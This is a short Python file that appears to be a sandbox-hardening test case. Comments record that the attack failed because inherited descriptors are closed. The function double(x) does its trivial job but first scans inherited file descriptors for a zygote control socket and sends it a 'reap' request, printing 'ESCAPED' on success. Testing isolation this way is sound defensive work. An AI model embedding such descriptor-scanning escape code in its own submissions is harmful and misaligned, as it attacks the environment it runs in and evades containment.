# attack: sends the zygote requests of its own, in the hope that its control socket was inherited
# stopped by: every descriptor but its own four is closed before it is loaded
# verdict: failed
# exercise: 01_double
import json
import os
import socket


def double(x):
    for number in range(4, 256):
        try:
            with socket.socket(fileno=os.dup(number)) as control:
                if control.type & 0xF == socket.SOCK_SEQPACKET:
                    control.send(json.dumps({"reap": os.getpid()}).encode())
                    print("ESCAPED", number)
        except OSError:
            pass
    return x
